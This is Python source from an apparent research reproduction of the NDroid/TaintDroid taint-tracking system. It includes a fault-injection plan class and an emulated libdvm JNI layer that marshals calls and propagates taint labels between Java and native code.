            self._record(spec, "syscall",
                         f"{name} short count {spec.partial_bytes}")
            return ("partial", int(spec.partial_bytes or 0))
        return None


@dataclass(frozen=True)
class FaultPlan:
    """An immutable, ordered set of :class:`FaultSpec`."""

    specs: Tuple[FaultSpec, ...] = field(default_factory=tuple)

    @classmethod
    def parse(cls, text: str) -> "FaultPlan":
        """Build a plan from comma-joined fault atoms (see
        :func:`parse_fault_spec`); an empty string is the empty plan."""
        atoms = [atom for atom in text.split(",") if atom.strip()]
        return cls(specs=tuple(parse_fault_spec(atom) for atom in atoms))

    @classmethod
    def random(cls, seed: int, faults: int = 3,
               instruction_range: Tuple[int, int] = (10, 5_000),
               kinds: Sequence[str] = FAULT_KINDS) -> "FaultPlan":
        """A deterministic pseudo-random plan (fuzzing harnesses)."""
        rng = random.Random(seed)
        specs: List[FaultSpec] = []
        for __ in range(faults):
            kind = rng.choice(list(kinds))
            if kind == "syscall":
                syscall = rng.choice(list(SHORT_WRITE_SYSCALLS))
                if rng.random() < 0.5:
                    errno_value = int(rng.choice([Errno.EINTR, Errno.EAGAIN]))
                    specs.append(FaultSpec(kind="syscall", syscall=syscall,
                                           errno_value=errno_value))
                else:
                    specs.append(FaultSpec(
                        kind="syscall", syscall=syscall,
                        partial_bytes=rng.randint(0, 16)))
            else:
                specs.append(FaultSpec(
                    kind=kind,
                    at_instruction=rng.randint(*instruction_range)))
        return cls(specs=tuple(specs))

    def activate(self) -> ActiveFaultPlan:
        return ActiveFaultPlan(self.specs)

    def describe(self) -> str:
        return ",".join(spec.describe() for spec in self.specs) or "(none)"

    def __bool__(self) -> bool:
        return bool(self.specs)
