"""``libdvm``'s JNI machinery, registered at emulated addresses.

See the package docstring for the architecture.  Internal call chains are
routed through :meth:`Emulator.call_host` so the branch-event sequence the
paper's multilevel hooking inspects (Fig. 5: ``CallVoidMethodA`` →
``dvmCallMethodA`` → ``dvmInterpret`` → returns) actually occurs and can be
instrumented function-by-function.
"""

from __future__ import annotations

import time
from typing import Dict, List, Optional, Tuple

from repro.common.errors import DalvikError, JNIError
from repro.common.taint import TAINT_CLEAR, TaintLabel
from repro.dalvik.classes import Method
from repro.dalvik.heap import ObjectRecord, Slot
from repro.dalvik.interpreter import PendingException
from repro.dalvik.stack import DvmStack
from repro.dalvik.vm import DalvikVM
from repro.emulator.emulator import Emulator, HostContext
from repro.jni.slots import JNI_FUNCTION_COUNT, JNI_SLOTS
from repro.memory.allocator import FreeListAllocator

LIBDVM_BASE = 0x4000_0000
LIBDVM_SIZE = 0x0002_0000
ENV_POINTER_ADDRESS = LIBDVM_BASE + 0x1_F000
ENV_TABLE_ADDRESS = LIBDVM_BASE + 0x1_F100
JNI_CHARS_BASE = 0x2A00_0000
JNI_CHARS_SIZE = 0x0010_0000

_METHOD_HANDLE_BASE = 0x7200_0000
_CLASS_HANDLE_BASE = 0x7100_0000
_FIELD_HANDLE_BASE = 0x7300_0000

# dvm-internal functions the DVM hook engine instruments.
_INTERNAL_FUNCTIONS = [
    "dvmCallJNIMethod", "dvmInterpret", "dvmCallMethodV", "dvmCallMethodA",
    "dvmDecodeIndirectRef", "dvmAllocObject", "dvmCreateStringFromUnicode",
    "dvmCreateStringFromCstr", "dvmAllocArrayByClass",
    "dvmAllocPrimitiveArray", "initException",
]

_PRIM_TYPE_CHAR = {
    "Boolean": "Z", "Byte": "B", "Char": "C", "Short": "S", "Int": "I",
    "Long": "J", "Float": "F", "Double": "D", "Void": "V", "Object": "L",
}


class _Trampoline:
    """Per-method compiled JNI call plan (the managed→native twin of a TB).

    Everything ``dvmCallJNIMethod`` re-derives on every crossing — the
    shorty-driven iref conversion plan, the static receiver handle, the
    method handle, the return-kind — is resolved once at first call and
    cached keyed by the :class:`Method`.  ``fast`` is the full
    marshalling closure used when nothing can observe the guest-memory
    protocol; the slow path reuses ``prefix``/``arg_refs``/``handle`` so
    even instrumented crossings skip the per-call recomputation.
    """

    __slots__ = ("handle", "prefix", "arg_refs", "returns_ref", "fast")

    def __init__(self, handle: int, prefix: Tuple[int, ...],
                 arg_refs: Tuple[bool, ...], returns_ref: bool,
                 fast) -> None:
        self.handle = handle
        self.prefix = prefix
        self.arg_refs = arg_refs
        self.returns_ref = returns_ref
        self.fast = fast


class JniLayer:
    """Owns handles, the env table, and every libdvm host function."""

    def __init__(self, emu: Emulator, vm: DalvikVM) -> None:
        self.emu = emu
        self.vm = vm
        self.symbols: Dict[str, int] = {}
        self.chars_heap = FreeListAllocator(JNI_CHARS_BASE, JNI_CHARS_SIZE)
        self._methods: List[Method] = []
        self._classes: List[str] = []
        self._fields: List[Tuple[str, str]] = []
        # Exception state, visible to ExceptionOccurred and the bridge.
        self.pending_exception: Optional[Tuple[int, TaintLabel, str]] = None
        # Interpret-chain plumbing (set by dvmCallMethod*, used by
        # dvmInterpret and readable by NDroid's hooks).
        self.pending_interpret: Optional[Dict] = None
        # The args pointer of the JNI invocation in flight (dvmCallJNIMethod).
        self.current_native_call: Optional[Dict] = None
        # Per-method compiled call plans; invalidated on RegisterNatives /
        # UnregisterNatives rebinding (the closures also re-read
        # ``native_address`` per call, so a stale entry is never wrong).
        self._trampolines: Dict[Method, _Trampoline] = {}
        # Cache introspection + crossing-path counters (observability).
        self.trampoline_hits = 0
        self.trampoline_misses = 0
        self.trampoline_invalidations = 0
        self.crossings_fast = 0
        self.crossings_slow = 0
        # Optional span tracer and µs-per-crossing histogram; both stay
        # None/absent unless a farm job attaches them.
        self.span_tracer = None
        self.crossing_histogram = None
        # Optional cross-job persistence (emulator/persist.py, injected by
        # the platform): call plans keyed by signature-shape digest.
        self.persistence = None

        self._register_internals()
        self._register_env_table()
        emu.memory_map.map(LIBDVM_BASE, LIBDVM_SIZE, "libdvm.so", perms="r-x")
        emu.memory_map.map(JNI_CHARS_BASE, JNI_CHARS_SIZE, "[jni chars]",
                           perms="rw-")
        vm.call_bridge = self._call_bridge

    # ------------------------------------------------------------------ setup

    def _register_internals(self) -> None:
        offset = 0
        for name in _INTERNAL_FUNCTIONS:
            address = LIBDVM_BASE + offset
            offset += 16
            self.symbols[name] = address
            self.emu.register_host_function(
                address, name, getattr(self, "_impl_" + name))

    def _register_env_table(self) -> None:
        memory = self.emu.memory
        memory.write_u32(ENV_POINTER_ADDRESS, ENV_TABLE_ADDRESS)
        base = LIBDVM_BASE + 0x8000
        for name, slot in JNI_SLOTS.items():
            address = base + slot * 16
            self.symbols[name] = address
            implementation = self._resolve_env_function(name)
            self.emu.register_host_function(address, name, implementation)
            memory.write_u32(ENV_TABLE_ADDRESS + 4 * slot, address)

    def _resolve_env_function(self, name: str):
        direct = getattr(self, "_env_" + name, None)
        if direct is not None:
            return direct
        # Generated Call* family.
        for prefix, static, nonvirtual in (("CallStatic", True, False),
                                           ("CallNonvirtual", False, True),
                                           ("Call", False, False)):
            if name.startswith(prefix):
                remainder = name[len(prefix):]
                for type_name in _PRIM_TYPE_CHAR:
                    if remainder.startswith(type_name + "Method"):
                        variant = remainder[len(type_name) + 6:]  # "", V, A
                        return self._make_call_method(type_name, variant,
                                                      static, nonvirtual)
        # Generated field accessors.
        for type_name in _PRIM_TYPE_CHAR:
            if name == f"Get{type_name}Field":
                return self._make_field_access(type_name, get=True,
                                               static=False)
            if name == f"Set{type_name}Field":
                return self._make_field_access(type_name, get=False,
                                               static=False)
            if name == f"GetStatic{type_name}Field":
                return self._make_field_access(type_name, get=True,
                                               static=True)
            if name == f"SetStatic{type_name}Field":
                return self._make_field_access(type_name, get=False,
                                               static=True)
            if name == f"New{type_name}Array":
                return self._make_new_prim_array(type_name)
        raise JNIError(f"no implementation for JNI function {name!r}")

    # ------------------------------------------------------------- handles

    def env_pointer(self) -> int:
        return ENV_POINTER_ADDRESS

    def method_handle(self, method: Method) -> int:
        try:
            index = self._methods.index(method)
        except ValueError:
            index = len(self._methods)
            self._methods.append(method)
        return _METHOD_HANDLE_BASE + 4 * index

    def method_from_handle(self, handle: int) -> Method:
        index = (handle - _METHOD_HANDLE_BASE) // 4
        if not 0 <= index < len(self._methods):
            raise JNIError(f"bad methodID 0x{handle:08x}")
        return self._methods[index]

    def class_handle(self, class_name: str) -> int:
        try:
            index = self._classes.index(class_name)
        except ValueError:
            index = len(self._classes)
            self._classes.append(class_name)
        return _CLASS_HANDLE_BASE + 4 * index

    def class_from_handle(self, handle: int) -> str:
        index = (handle - _CLASS_HANDLE_BASE) // 4
        if not 0 <= index < len(self._classes):
            raise JNIError(f"bad jclass 0x{handle:08x}")
        return self._classes[index]

    def field_handle(self, class_name: str, field_name: str) -> int:
        key = (class_name, field_name)
        try:
            index = self._fields.index(key)
        except ValueError:
            index = len(self._fields)
            self._fields.append(key)
        return _FIELD_HANDLE_BASE + 4 * index

    def field_from_handle(self, handle: int) -> Tuple[str, str]:
        index = (handle - _FIELD_HANDLE_BASE) // 4
        if not 0 <= index < len(self._fields):
            raise JNIError(f"bad fieldID 0x{handle:08x}")
        return self._fields[index]

    # -------------------------------------------------- Java -> native (entry)

    def _compile_trampoline(self, method: Method) -> _Trampoline:
        """Build and cache the per-method call plan (first crossing only)."""
        self.trampoline_misses += 1
        persistence = self.persistence
        plan = digest = None
        if persistence is not None:
            digest = persistence.trampoline_digest(method)
            plan = persistence.load_trampoline(digest)
        if plan is not None:
            # Rebind the closure from the persisted plan: the plan is a
            # pure function of (shorty, is_static) — exactly what the
            # digest covers — so a hit can never mis-shape the call.
            started = time.perf_counter()
            arg_refs = tuple(bool(flag) for flag in plan["arg_refs"])
            returns_ref = bool(plan["returns_ref"])
            persistence.hit("jni")
            persistence.rebound("jni", started)
        else:
            arg_refs = tuple(ch == "L" for ch in method.param_types())
            returns_ref = method.return_type == "L"
            if persistence is not None:
                persistence.miss("jni")
                persistence.record_trampoline(
                    digest, {"arg_refs": [bool(flag) for flag in arg_refs],
                             "returns_ref": returns_ref})
        if method.is_static:
            prefix = (self.env_pointer(),
                      self.class_handle(method.class_name))
        else:
            prefix = (self.env_pointer(),)
        irt = self.vm.irt
        add_local = irt.add_local
        remove = irt.remove
        decode = irt.decode
        emu_call = self.emu.call

        def fast(args: List[Slot]) -> Slot:
            # TaintDroid's JNI policy, computed host-side: the return value
            # is tainted if any parameter is tainted.
            taint = TAINT_CLEAR
            local_refs: List[int] = []
            jni_args = list(prefix)
            append = jni_args.append
            for slot, is_ref in zip(args, arg_refs):
                taint |= slot.taint
                if is_ref:
                    iref = add_local(slot.value)
                    if iref:
                        local_refs.append(iref)
                    append(iref)
                else:
                    append(slot.value)
            return_value = emu_call(method.native_address, tuple(jni_args))
            if returns_ref:
                return_value = decode(return_value)
            for iref in local_refs:
                try:
                    remove(iref)
                except JNIError:
                    pass  # native code may have deleted it already
            if self.pending_exception is not None:
                address, exc_taint, class_name = self.pending_exception
                self.pending_exception = None
                raise PendingException(address, exc_taint, class_name)
            return Slot(return_value & 0xFFFF_FFFF, taint, returns_ref)

        trampoline = _Trampoline(self.method_handle(method), prefix,
                                 arg_refs, returns_ref, fast)
        self._trampolines[method] = trampoline
        return trampoline

    def _call_bridge(self, vm: DalvikVM, method: Method,
                     args: List[Slot]) -> Slot:
        """The VM-side half of a native invocation.

        TaintDroid's interpreter stores parameters *and their taints* in the
        outs area, plus an appended return-taint slot, then transfers to the
        JNI call bridge (``dvmCallJNIMethod``).  When nothing can observe
        that protocol — no hooks, no per-step engines, event log off — the
        trampoline's fast closure performs the same marshalling host-side
        and skips the guest-memory round trip entirely; the native code
        itself still executes instruction-for-instruction identically.
        """
        if method.native_address == 0:
            raise DalvikError(
                f"UnsatisfiedLinkError: {method.full_name} "
                "(library not loaded?)")
        trampoline = self._trampolines.get(method)
        if trampoline is None:
            trampoline = self._compile_trampoline(method)
        else:
            self.trampoline_hits += 1
        emu = self.emu
        tracer = self.span_tracer
        if emu.use_tb and not vm.event_log.enabled \
                and emu.instrumentation_free():
            self.crossings_fast += 1
            if tracer is None:
                return trampoline.fast(args)
            start = tracer.now()
            result = trampoline.fast(args)
            tracer.complete("jni_crossing", start, cat="engine",
                            method=method.full_name, path="fast")
            if self.crossing_histogram is not None:
                self.crossing_histogram.record(tracer.now() - start)
            return result
        self.crossings_slow += 1
        start = tracer.now() if tracer is not None else 0.0
        values = [slot.value for slot in args]
        taints = [slot.taint for slot in args]
        args_ptr = vm.stack.write_native_args(values, taints)
        result_ptr = self.chars_heap.alloc(8)
        emu.call(self.symbols["dvmCallJNIMethod"],
                 args=(args_ptr, result_ptr, trampoline.handle, 0))
        value = emu.memory.read_u32(result_ptr)
        taint = emu.memory.read_u32(
            DvmStack.native_return_taint_address(args_ptr, len(values)))
        self.chars_heap.free(result_ptr)
        if tracer is not None:
            tracer.complete("jni_crossing", start, cat="engine",
                            method=method.full_name, path="slow")
            if self.crossing_histogram is not None:
                self.crossing_histogram.record(tracer.now() - start)
        if self.pending_exception is not None:
            address, exc_taint, class_name = self.pending_exception
            self.pending_exception = None
            raise PendingException(address, exc_taint, class_name)
        return Slot(value, taint, is_ref=trampoline.returns_ref)

    def _impl_dvmCallJNIMethod(self, ctx: HostContext):
        """const u4* args, JValue* pResult, const Method* method, Thread*."""
        args_ptr, result_ptr, handle = ctx.arg(0), ctx.arg(1), ctx.arg(2)
        method = self.method_from_handle(handle)
        trampoline = self._trampolines.get(method)
        if trampoline is None:
            trampoline = self._compile_trampoline(method)
        else:
            self.trampoline_hits += 1
        memory = self.emu.memory
        count = method.ins_size
        values, taints = [], []
        for index in range(count):
            value, taint = DvmStack.read_native_arg(memory, args_ptr, index)
            values.append(value)
            taints.append(taint)

        # Marshal to the JNI calling convention following the trampoline's
        # precompiled iref plan (no per-call param_types() recomputation).
        local_refs: List[int] = []
        add_local = self.vm.irt.add_local
        jni_args: List[int] = list(trampoline.prefix)
        for value, is_ref in zip(values, trampoline.arg_refs):
            if is_ref:
                iref = add_local(value)
                if iref:
                    local_refs.append(iref)
                jni_args.append(iref)
            else:
                jni_args.append(value)

        self.current_native_call = {
            "method": method, "args_ptr": args_ptr, "count": count,
            "taints": list(taints), "jni_args": list(jni_args),
        }
        log = self.vm.event_log
        if log.enabled:
            log.emit(
                "jni", "dvmCallJNIMethod",
                f"{method.full_name} shorty={method.shorty}",
                method=method.full_name, shorty=method.shorty,
                insn_addr=method.native_address & ~1, args_ptr=args_ptr,
                taints=list(taints))

        return_value = self.emu.call(method.native_address, tuple(jni_args))

        # Convert an object return (iref) back to a direct pointer.
        if trampoline.returns_ref:
            return_value = self.vm.irt.decode(return_value)
        memory.write_u32(result_ptr, return_value & 0xFFFF_FFFF)
        # TaintDroid's JNI policy: "the return value will be tainted if any
        # parameter is tainted."  NDroid's exit hook may overwrite this slot
        # with the precise native-side taint.
        policy_taint = TAINT_CLEAR
        for taint in taints:
            policy_taint |= taint
        memory.write_u32(
            DvmStack.native_return_taint_address(args_ptr, count),
            policy_taint)
        for iref in local_refs:
            try:
                self.vm.irt.remove(iref)
            except JNIError:
                pass  # native code may have deleted it already
        self.current_native_call = None
        return None

    # -------------------------------------------------- native -> Java (exit)

    def _make_call_method(self, type_name: str, variant: str, static: bool,
                          nonvirtual: bool):
        """Build one of the 90 Call* entry points (Table II)."""
        return_char = _PRIM_TYPE_CHAR[type_name]
        if type_name in ("Long", "Double"):
            def unsupported(ctx: HostContext):
                raise JNIError(
                    f"Call*{type_name}Method: 64-bit returns are not "
                    "modelled; use Int/Object")
            return unsupported

        def implementation(ctx: HostContext):
            arg_base = 4 if nonvirtual else 3
            this_iref = 0 if static else ctx.arg(1)
            handle = ctx.arg(arg_base - 1)
            method = self.method_from_handle(handle)
            param_count = len(method.shorty) - 1
            memory = self.emu.memory

            if variant in ("V", "A"):
                # va_list and jvalue[] share our packed-word layout.
                block_ptr = ctx.arg(arg_base)
                owned_block = 0
            else:
                words = [ctx.arg(arg_base + index)
                         for index in range(param_count)]
                owned_block = self.chars_heap.alloc(max(4 * param_count, 4))
                memory.write_words(owned_block, words)
                block_ptr = owned_block

            # Table II: the plain and V forms route through dvmCallMethodV,
            # the A form through dvmCallMethodA.
            inner = "dvmCallMethodA" if variant == "A" else "dvmCallMethodV"
            cpu = self.emu.cpu
            saved = cpu.regs[:4]
            cpu.regs[0] = handle
            cpu.regs[1] = this_iref
            cpu.regs[2] = block_ptr
            cpu.regs[3] = 0
            self.emu.call_host(self.symbols[inner])
            result = cpu.regs[0]
            cpu.regs[0:4] = saved
            if owned_block:
                self.chars_heap.free(owned_block)

            if return_char == "V":
                return None
            if return_char == "L":
                return self.vm.irt.add_local(result)
            return result

        return implementation

    def _impl_dvmCallMethodV(self, ctx: HostContext):
        return self._dvm_call_method(ctx, variant="V")

    def _impl_dvmCallMethodA(self, ctx: HostContext):
        return self._dvm_call_method(ctx, variant="A")

    def _dvm_call_method(self, ctx: HostContext, variant: str):
        """Shared dvmCallMethod* body: frame setup then dvmInterpret.

        Performs the three steps the paper names: allocate the method frame,
        put the parameters in (their taint slots cleared — the behaviour
        NDroid must compensate for), and decode indirect references via
        ``dvmDecodeIndirectRef``.
        """
        handle, this_iref, block_ptr = ctx.arg(0), ctx.arg(1), ctx.arg(2)
        method = self.method_from_handle(handle)
        memory = self.emu.memory
        param_types = method.shorty[1:]

        raw_args: List[int] = []
        irefs: List[int] = []
        if not method.is_static:
            raw_args.append(this_iref)
            irefs.append(this_iref)
        for index, type_char in enumerate(param_types):
            word = memory.read_u32(block_ptr + 4 * index)
            raw_args.append(word)
            if type_char == "L":
                irefs.append(word)

        # Decode indirect references to direct pointers.
        decoded: List[int] = []
        types = ("L" if not method.is_static else "") + param_types
        for type_char, word in zip(types, raw_args):
            if type_char == "L" and word:
                cpu = self.emu.cpu
                saved_r0 = cpu.regs[0]
                cpu.regs[0] = word
                self.emu.call_host(self.symbols["dvmDecodeIndirectRef"])
                decoded.append(cpu.regs[0])
                cpu.regs[0] = saved_r0
            else:
                decoded.append(word)

        if method.is_native:
            # Native-to-native via JNI: route through the ordinary bridge.
            slots = [Slot(value, TAINT_CLEAR, type_char == "L")
                     for type_char, value in zip(types, decoded)]
            result = self._call_bridge(self.vm, method, slots)
            self.vm.interp_save_state = result
            return result.value

        # Allocate the frame and copy parameters in; the DVM clears the
        # taint slots here (push_frame zeroes them).
        frame = self.vm.stack.push_frame(method)
        first_in = frame.first_in_register()
        for offset, (type_char, value) in enumerate(zip(types, decoded)):
            frame.set(first_in + offset, value, TAINT_CLEAR,
                      is_ref=(type_char == "L"))
        self.pending_interpret = {
            "method": method, "frame": frame, "irefs": irefs,
            "variant": variant, "first_in": first_in, "types": types,
        }
        log = self.vm.event_log
        if log.enabled:
            log.emit(
                "jni", f"dvmCallMethod{variant}",
                f"{method.full_name} frame@0x{frame.fp:08x}",
                method=method.full_name, frame=frame.fp, irefs=list(irefs))
        self.emu.call_host(self.symbols["dvmInterpret"])
        return self.emu.cpu.regs[0]

    def _impl_dvmInterpret(self, ctx: HostContext):
        pending = self.pending_interpret
        if pending is None:
            raise JNIError("dvmInterpret with no pending frame")
        self.pending_interpret = None
        frame = pending["frame"]
        method = pending["method"]
        log = self.vm.event_log
        if log.enabled:
            log.emit(
                "jni", "dvmInterpret",
                f"{method.full_name} shorty={method.shorty} "
                f"curFrame@0x{frame.fp:08x}",
                method=method.full_name, shorty=method.shorty,
                frame=frame.fp, registers=frame.register_count,
                ins=method.ins_size)
        try:
            result = self.vm.interpreter.execute_frame(frame)
            self.vm.interp_save_state = result
            return result.value
        except PendingException as pending_exception:
            self.pending_exception = (pending_exception.exception_address,
                                      pending_exception.taint,
                                      pending_exception.class_name)
            self.vm.interp_save_state = Slot()
            return 0
        finally:
            self.vm.stack.pop_frame()

    def _impl_dvmDecodeIndirectRef(self, ctx: HostContext):
        return self.vm.irt.decode(ctx.arg(0))

    # ----------------------------------------------------- object creation

    def _impl_dvmAllocObject(self, ctx: HostContext):
        class_name = self.class_from_handle(ctx.arg(0))
        return self.vm.new_instance(class_name).address

    def _impl_dvmCreateStringFromCstr(self, ctx: HostContext):
        text = ctx.cstring_arg(0)
        record = self.vm.heap.alloc_string(text)
        log = self.vm.event_log
        if log.enabled:
            log.emit(
                "jni", "dvmCreateStringFromCstr",
                f"{text!r} -> 0x{record.address:08x}",
                text=text, address=record.address, source_ptr=ctx.arg(0),
                length=len(text))
        return record.address

    def _impl_dvmCreateStringFromUnicode(self, ctx: HostContext):
        pointer, length = ctx.arg(0), ctx.arg(1)
        data = self.emu.memory.read_bytes(pointer, 2 * length)
        text = data.decode("utf-16-le", errors="replace")
        record = self.vm.heap.alloc_string(text)
        log = self.vm.event_log
        if log.enabled:
            log.emit(
                "jni", "dvmCreateStringFromUnicode",
                f"{text!r} -> 0x{record.address:08x}",
                text=text, address=record.address, source_ptr=pointer,
                length=2 * length)
        return record.address

    def _impl_dvmAllocArrayByClass(self, ctx: HostContext):
        length = ctx.arg(1)
        return self.vm.heap.alloc_array("L", length).address

    def _impl_dvmAllocPrimitiveArray(self, ctx: HostContext):
        type_char = chr(ctx.arg(0) & 0xFF) or "I"
        length = ctx.arg(1)
        return self.vm.heap.alloc_array(type_char, length).address

    def _env_NewStringUTF(self, ctx: HostContext):
        cstr_ptr = ctx.arg(1)
        cpu = self.emu.cpu
        saved = cpu.regs[0]
        cpu.regs[0] = cstr_ptr
        self.emu.call_host(self.symbols["dvmCreateStringFromCstr"])
        address = cpu.regs[0]
        cpu.regs[0] = saved
        return self.vm.irt.add_local(address)

    def _env_NewString(self, ctx: HostContext):
        cpu = self.emu.cpu
        saved = cpu.regs[:2]
        cpu.regs[0], cpu.regs[1] = ctx.arg(1), ctx.arg(2)
        self.emu.call_host(self.symbols["dvmCreateStringFromUnicode"])
        address = cpu.regs[0]
        cpu.regs[0:2] = saved
        return self.vm.irt.add_local(address)

    def _new_object_common(self, ctx: HostContext, args_block: int):
        class_handle = ctx.arg(1)
        method_handle = ctx.arg(2)
        cpu = self.emu.cpu
        saved = cpu.regs[0]
        cpu.regs[0] = class_handle
        self.emu.call_host(self.symbols["dvmAllocObject"])
        address = cpu.regs[0]
        cpu.regs[0] = saved
        iref = self.vm.irt.add_local(address)
        if method_handle:
            saved4 = cpu.regs[:4]
            cpu.regs[0] = method_handle
            cpu.regs[1] = iref
            cpu.regs[2] = args_block
            cpu.regs[3] = 0
            self.emu.call_host(self.symbols["dvmCallMethodA"])
            cpu.regs[0:4] = saved4
        return iref

    def _env_NewObject(self, ctx: HostContext):
        method_handle = ctx.arg(2)
        param_count = 0
        if method_handle:
            param_count = len(self.method_from_handle(method_handle).shorty) - 1
        block = self.chars_heap.alloc(max(4 * param_count, 4))
        self.emu.memory.write_words(
            block, [ctx.arg(3 + index) for index in range(param_count)])
        try:
            return self._new_object_common(ctx, block)
        finally:
            self.chars_heap.free(block)

    def _env_NewObjectV(self, ctx: HostContext):
        return self._new_object_common(ctx, ctx.arg(3))

    def _env_NewObjectA(self, ctx: HostContext):
        return self._new_object_common(ctx, ctx.arg(3))

    def _env_NewObjectArray(self, ctx: HostContext):
        length = ctx.arg(1)
        cpu = self.emu.cpu
        saved = cpu.regs[:2]
        cpu.regs[0], cpu.regs[1] = ctx.arg(2), length
        self.emu.call_host(self.symbols["dvmAllocArrayByClass"])
        address = cpu.regs[0]
        cpu.regs[0:2] = saved
        return self.vm.irt.add_local(address)

    def _make_new_prim_array(self, type_name: str):
        type_char = _PRIM_TYPE_CHAR[type_name]

        def implementation(ctx: HostContext):
            length = ctx.arg(1)
            cpu = self.emu.cpu
            saved = cpu.regs[:2]
            cpu.regs[0], cpu.regs[1] = ord(type_char), length
            self.emu.call_host(self.symbols["dvmAllocPrimitiveArray"])
            address = cpu.regs[0]
            cpu.regs[0:2] = saved
            return self.vm.irt.add_local(address)

        return implementation

    # ----------------------------------------------------- class/member lookup

    def _env_FindClass(self, ctx: HostContext):
        name = ctx.cstring_arg(1)
        descriptor = name if name.startswith("L") else f"L{name};"
        return self.class_handle(descriptor)

    def _lookup_method(self, ctx: HostContext):
        class_name = self.class_from_handle(ctx.arg(1))
        method_name = ctx.cstring_arg(2)
        method = self.vm.resolve_method(f"{class_name}->{method_name}")
        return self.method_handle(method)

    def _env_GetMethodID(self, ctx: HostContext):
        return self._lookup_method(ctx)

    def _env_GetStaticMethodID(self, ctx: HostContext):
        return self._lookup_method(ctx)

    def _env_GetFieldID(self, ctx: HostContext):
        class_name = self.class_from_handle(ctx.arg(1))
        return self.field_handle(class_name, ctx.cstring_arg(2))

    def _env_GetStaticFieldID(self, ctx: HostContext):
        return self._env_GetFieldID(ctx)

    def _env_GetObjectClass(self, ctx: HostContext):
        record = self._object_from_iref(ctx.arg(1))
        return self.class_handle(record.class_name)

    # ----------------------------------------------------- field access (Table IV)

    def _object_from_iref(self, iref: int) -> ObjectRecord:
        address = self.vm.irt.decode(iref)
        if address == 0:
            raise JNIError("NULL object reference")
        return self.vm.heap.get(address)

    def _make_field_access(self, type_name: str, get: bool, static: bool):
        is_object = type_name == "Object"

        def implementation(ctx: HostContext):
            field_class, field_name = self.field_from_handle(ctx.arg(2))
            if static:
                symbol = f"{field_class}->{field_name}"
                if get:
                    value, __ = self.vm.get_static(symbol)
                    return self.vm.irt.add_local(value) if is_object else value
                raw = ctx.arg(3)
                value = self.vm.irt.decode(raw) if is_object else raw
                __, old_taint = self.vm.get_static(symbol)
                self.vm.set_static(symbol, value, old_taint,
                                   is_ref=is_object)
                return None
            record = self._object_from_iref(ctx.arg(1))
            if get:
                slot = record.fields.get(field_name)
                value = slot.value if slot else 0
                return self.vm.irt.add_local(value) if is_object else value
            raw = ctx.arg(3)
            value = self.vm.irt.decode(raw) if is_object else raw
            slot = record.fields.get(field_name)
            if slot is None:
                slot = Slot()
                record.fields[field_name] = slot
            slot.value = value
            slot.is_ref = is_object
            return None

        return implementation

    # ----------------------------------------------------- strings and arrays

    def _env_GetStringUTFChars(self, ctx: HostContext):
        record = self._object_from_iref(ctx.arg(1))
        if not record.is_string:
            raise JNIError("GetStringUTFChars on non-string")
        data = record.text.encode("utf-8")
        buffer = self.chars_heap.alloc(len(data) + 1)
        self.emu.memory.write_bytes(buffer, data + b"\x00")
        if ctx.arg(2):
            self.emu.memory.write_u8(ctx.arg(2), 1)  # *isCopy = JNI_TRUE
        log = self.vm.event_log
        if log.enabled:
            log.emit(
                "jni", "GetStringUTFChars",
                f"{record.text!r} -> buffer@0x{buffer:08x}",
                text=record.text, buffer=buffer, length=len(data),
                jstring=ctx.arg(1), string_address=record.address)
        return buffer

    def _env_ReleaseStringUTFChars(self, ctx: HostContext):
        self.chars_heap.free(ctx.arg(2))
        return 0

    def _env_GetStringLength(self, ctx: HostContext):
        return len(self._object_from_iref(ctx.arg(1)).text)

    def _env_GetStringUTFLength(self, ctx: HostContext):
        return len(self._object_from_iref(ctx.arg(1)).text.encode("utf-8"))

    def _array_from_iref(self, iref: int) -> ObjectRecord:
        record = self._object_from_iref(iref)
        if not record.is_array:
            raise JNIError("expected an array reference")
        return record

    def _env_GetArrayLength(self, ctx: HostContext):
        return len(self._array_from_iref(ctx.arg(1)).elements)

    def _env_GetObjectArrayElement(self, ctx: HostContext):
        record = self._array_from_iref(ctx.arg(1))
        index = ctx.arg(2)
        if not 0 <= index < len(record.elements):
            raise JNIError(f"array index {index} out of bounds")
        return self.vm.irt.add_local(record.elements[index].value)

    def _env_SetObjectArrayElement(self, ctx: HostContext):
        record = self._array_from_iref(ctx.arg(1))
        index = ctx.arg(2)
        if not 0 <= index < len(record.elements):
            raise JNIError(f"array index {index} out of bounds")
        record.elements[index] = Slot(self.vm.irt.decode(ctx.arg(3)),
                                      TAINT_CLEAR, True)
        self.vm.heap.sync_array_to_memory(record)
        return 0

    def _env_GetByteArrayRegion(self, ctx: HostContext):
        record = self._array_from_iref(ctx.arg(1))
        start, length, buffer = ctx.arg(2), ctx.arg(3), ctx.arg(4)
        for offset in range(length):
            value = record.elements[start + offset].value & 0xFF
            self.emu.memory.write_u8(buffer + offset, value)
        return 0

    def _env_SetByteArrayRegion(self, ctx: HostContext):
        record = self._array_from_iref(ctx.arg(1))
        start, length, buffer = ctx.arg(2), ctx.arg(3), ctx.arg(4)
        for offset in range(length):
            record.elements[start + offset] = Slot(
                self.emu.memory.read_u8(buffer + offset))
        self.vm.heap.sync_array_to_memory(record)
        return 0

    def _env_GetIntArrayRegion(self, ctx: HostContext):
        record = self._array_from_iref(ctx.arg(1))
        start, length, buffer = ctx.arg(2), ctx.arg(3), ctx.arg(4)
        for offset in range(length):
            self.emu.memory.write_u32(
                buffer + 4 * offset, record.elements[start + offset].value)
        return 0

    def _env_SetIntArrayRegion(self, ctx: HostContext):
        record = self._array_from_iref(ctx.arg(1))
        start, length, buffer = ctx.arg(2), ctx.arg(3), ctx.arg(4)
        for offset in range(length):
            record.elements[start + offset] = Slot(
                self.emu.memory.read_u32(buffer + 4 * offset))
        self.vm.heap.sync_array_to_memory(record)
        return 0

    # ----------------------------------------------------- references

    def _env_NewGlobalRef(self, ctx: HostContext):
        address = self.vm.irt.decode(ctx.arg(1))
        return self.vm.irt.add_global(address)

    def _env_DeleteGlobalRef(self, ctx: HostContext):
        if ctx.arg(1):
            self.vm.irt.remove(ctx.arg(1))
        return 0

    def _env_DeleteLocalRef(self, ctx: HostContext):
        if ctx.arg(1):
            self.vm.irt.remove(ctx.arg(1))
        return 0

    # ----------------------------------------------------- exceptions

    def _impl_initException(self, ctx: HostContext):
        """Create the message string and run the constructor chain."""
        exception_address, message_ptr = ctx.arg(0), ctx.arg(1)
        cpu = self.emu.cpu
        saved = cpu.regs[0]
        cpu.regs[0] = message_ptr
        self.emu.call_host(self.symbols["dvmCreateStringFromCstr"])
        string_address = cpu.regs[0]
        cpu.regs[0] = saved
        record = self.vm.heap.get(exception_address)
